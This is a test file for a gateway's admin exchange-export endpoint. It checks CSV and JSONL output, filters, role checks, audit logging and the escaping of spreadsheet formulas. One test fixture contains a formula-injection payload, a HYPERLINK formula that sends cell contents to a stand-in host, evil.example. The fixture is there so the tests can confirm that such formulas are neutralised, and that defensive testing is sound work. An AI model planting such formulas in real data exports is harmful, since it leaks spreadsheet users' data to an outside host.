import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import { Ajv } from 'ajv';
import OpenAI from 'openai';
import { csvCell } from '../../src/admin/export-routes.ts';
import { runCli } from '../../src/cli/main.ts';
import { createApiKey } from '../../src/identity/key-service.ts';
import { finishedExchange, startTestGateway, type TestGateway } from '../helpers/gateway.ts';

/**
 * GET /admin/v1/exchanges/export against a composed gateway with traffic from the OpenAI SDK: the list's filters,
 * CSV quoting, formula cells neutralised (a person in a group named like a spreadsheet formula), JSONL lines that are the
 * list's exchange summaries (schemas/admin-api.schema.json), the export chained before any byte, roles enforced.
 */

/** A minimal RFC 4180 reader: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
  }
  assert.equal(cell + row.join(''), '', 'the export ends with a complete line');
  return rows;
}

describe('exchange export (CSV, JSONL)', () => {
  let t: TestGateway;
  let auditor: string;
  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  let formulaSubject = '';
  const MASTER = randomBytes(32).toString('base64');

  before(async () => {
    t = await startTestGateway({ masterKey: MASTER, extraYaml: 'auth:\n  key_cache_ttl_ms: 0\n  roles: { admin: [portcullis-admins], auditor: [auditors], user: [eng] }\n' });
    auditor = (await createApiKey(t.gw.store.apiKeys, { name: 'audrey', kind: 'user', groups: ['auditors'], expiresAt: null, createdBy: 'test' }, Date.now())).secret;
    const formulaKey = (await createApiKey(t.gw.store.apiKeys, { name: FORMULA, kind: 'user', groups: [FORMULA, 'eng'], expiresAt: null, createdBy: 'test' }, Date.now())).secret;
    for (const [key, models] of [[t.userKey, ['gpt-4o', 'gpt-4o-mini', 'gpt-4o']], [formulaKey, ['gpt-4o-mini']]] as const) {
      const client = new OpenAI({ baseURL: t.openaiBase, apiKey: key, maxRetries: 0 });
      for (const model of models) {
        const r = await client.chat.completions.create({ model, messages: [{ role: 'user', content: 'hello, "quoted", world\nsecond line' }] }).withResponse();
        await finishedExchange(t.gw, r.response.headers.get('x-portcullis-exchange-id')!);
      }
    }
    const refused = await fetch(`${t.openaiBase}/chat/completions`, { method: 'POST', headers: { authorization: `Bearer ${t.userKey}`, 'content-type': 'application/json' }, body: JSON.stringify({ model: 'not-routed', messages: [] }) });
    await finishedExchange(t.gw, refused.headers.get('x-portcullis-exchange-id')!);
    const rows = (await t.gw.store.exchanges.list({ limit: 100 })).filter((r) => r.subject?.includes('HYPERLINK'));
    formulaSubject = rows[0]!.subject!;
  });
  after(async () => t?.close());

  const get = (key: string, q: string) => fetch(`${t.gw.url}/admin/v1/exchanges/export?${q}`, { headers: { authorization: `Bearer ${key}` } });
  const listed = async (q: string) => ((await (await fetch(`${t.gw.url}/admin/v1/exchanges?limit=1000&${q}`, { headers: { authorization: `Bearer ${auditor}` } })).json()) as { data: Record<string, unknown>[] }).data;

  it('CSV: one line per listed exchange, in the list\'s order, quoted, formulas neutralised', async () => {
    const r = await get(auditor, 'format=csv');
    assert.equal(r.status, 200);
    assert.match(r.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(r.headers.get('content-disposition') ?? '', /^attachment; filename="exchanges\.csv"$/);
    assert.equal(r.headers.get('cache-control'), 'no-store');
    const [head, ...rows] = parseCsv(await r.text());
    const col = (name: string) => head!.indexOf(name);
    assert.ok(col('subject') >= 0 && col('finding_types') >= 0 && col('effect') >= 0);
    const all = await listed('');
    assert.deepEqual(rows.map((x) => x[col('id')]), all.map((x) => x.id), 'the same exchanges as the list, newest first');
    const formula = rows.find((x) => x[col('subject')]!.includes('HYPERLINK'))!;
    assert.equal(formula[col('subject')], formulaSubject);
    assert.equal(formula[col('groups')], `'${FORMULA} eng`, 'a cell that starts like a formula is text in a spreadsheet');
    for (const x of rows) for (const cell of x) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'no cell starts a formula');
    const refused = rows.filter((x) => x[col('status')] === 'rejected');
    assert.equal(refused.length, 1);
    assert.notEqual(refused[0]![col('error_code')], '', 'a refusal carries its error code');
  });

  it('the list\'s filters select the same exchanges; limit bounds the export', async () => {
    for (const q of ['model=gpt-4o-mini', `subject=${encodeURIComponent(formulaSubject)}`, 'status=rejected', `since=${encodeURIComponent(new Date(Date.now() - 3_600_000).toISOString())}&model=gpt-4o`]) {
      const lines = (await (await get(auditor, `format=jsonl&${q}`)).text()).split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
      const expected = await listed(q);
      assert.ok(expected.length > 0, q);
      assert.deepEqual(lines.map((x) => x.id), expected.map((x) => x.id), q);
    }
    const two = (await (await get(auditor, 'format=jsonl&limit=2')).text()).split('\n').filter(Boolean);
    assert.equal(two.length, 2);
    const csv = parseCsv(await (await get(auditor, 'format=csv&model=nothing-like-this')).text());
    assert.equal(csv.length, 1, 'no match: the header line only');
  });

  it('JSONL: each line is the list\'s exchange summary (the schema\'s exchange_summary), no bodies', async () => {
    const r = await get(auditor, 'format=jsonl');
    assert.match(r.headers.get('content-type') ?? '', /^application\/jsonl/);
    const text = await r.text();
    assert.ok(text.endsWith('\n'));
    const lines = text.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
    assert.deepEqual(lines, await listed(''));
    assert.ok(!text.includes('second line'), 'no recorded body is exported');
    const schema = JSON.parse(readFileSync(new URL('../../schemas/admin-api.schema.json', import.meta.url), 'utf8')) as { $id: string };
    const ajv = new Ajv({ allErrors: true, strict: true, strictRequired: false, allowUnionTypes: true });
    ajv.addVocabulary(['x-responses', 'x-jsonl']);
    ajv.addSchema(schema);
    const validate = ajv.getSchema(`${schema.$id}#/definitions/exchange_summary`)!;
    for (const l of lines) assert.ok(validate(l), ajv.errorsText(validate.errors));
  });

  it('is chained as exchanges.export with its filters before anything is sent; other roles and bad filters are refused', async () => {
    await (await get(t.adminKey, 'format=jsonl&model=gpt-4o')).text();
    const repo = t.gw.evidence.audit.repo;
    const entries = [];
    for (const h of await repo.heads()) for (let s = h.seq; s > Math.max(0, h.seq - 20); s--) entries.push((await repo.entry(h.writer, s))!);
    const exported = entries.find((e) => e.kind === 'admin.action' && e.payload.action === 'exchanges.export' && e.payload.model === 'gpt-4o');
    assert.ok(exported, 'the export is in the audit trail');
    assert.equal(exported.payload.format, 'jsonl');
    assert.equal((await get(t.userKey, 'format=csv')).status, 403);
    assert.equal((await get(auditor, 'format=xlsx')).status, 400);
    assert.equal((await get(auditor, 'format=csv&since=yesterday')).status, 400);
    assert.equal((await get(auditor, 'format=csv&status=nope')).status, 400);
  });

  it('a store failure mid-export breaks the download instead of ending it like a complete file', async () => {
    const exchanges = t.gw.store.exchanges;
    const list = exchanges.list.bind(exchanges);
    exchanges.list = () => Promise.reject(new Error('store unavailable'));
    try {
      // The status line may or may not have reached the client before the connection broke; either way the
      // download fails rather than ending like a complete (but empty) file.
      await assert.rejects(get(auditor, 'format=csv').then((r) => r.text()));
    } finally {
      exchanges.list = list;
    }
    assert.equal((await get(auditor, 'format=csv')).status, 200);
  });

  it('portcullis exchanges export writes the same lines from the store, chained as exchanges.export', async () => {
    writeFileSync(join(t.dir, 'cli.yaml'), `store:\n  url: sqlite:${join(t.dir, 'portcullis.db')}\nmaster_key: env:PCL_TEST_MASTER\nproviders: [{ name: m, type: mock }]\nroutes: [{ model: "*", provider: m }]\n`);
    const cli = async (...argv: string[]) => {
      let out = '';
      const stdout = new PassThrough().on('data', (c: Buffer) => (out += c.toString()));
      const code = await runCli([...argv, '--config', join(t.dir, 'cli.yaml')], { stdin: new PassThrough(), stdout, stderr: new PassThrough(), env: { PCL_TEST_MASTER: MASTER }, cwd: t.dir });
      return { code, out };
    };
    for (const q of ['format=csv', 'format=jsonl&model=gpt-4o-mini']) {
      const api = await (await get(auditor, q)).text();
      const args = q.includes('model') ? ['--format', 'jsonl', '--model', 'gpt-4o-mini'] : [];
      const r = await cli('exchanges', 'export', ...args);
      assert.equal(r.code, 0);
      assert.equal(r.out, api, `the CLI's export equals the API's (${q})`);
    }
    const file = join(t.dir, 'out.csv');
    assert.equal((await cli('exchanges', 'export', '--status', 'rejected', '--out', file)).code, 0);
    assert.equal(readFileSync(file, 'utf8').trim().split('\r\n').length, 2);
    assert.notEqual((await cli('exchanges', 'export', '--format', 'xlsx')).code, 0);
    const repo = t.gw.evidence.audit.repo;
    const heads = (await repo.heads()).filter((h) => h.writer.startsWith('cli-'));
    const last = await repo.entry(heads[0]!.writer, heads[0]!.seq);
    assert.equal(last?.payload.action, 'exchanges.export');
    assert.equal(last?.payload.status, 'rejected');
  });

  it('neutralises every formula lead and quotes what RFC 4180 requires', () => {
    assert.equal(csvCell('=1+1'), "'=1+1");
    assert.equal(csvCell('+1'), "'+1");
    assert.equal(csvCell('-1'), "'-1");
    assert.equal(csvCell('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(csvCell('\t=1'), "'\t=1");
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('=a,"b"'), '"\'=a,""b"""');
    assert.equal(csvCell('two\nlines'), '"two\nlines"');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(12), '12');
  });
});
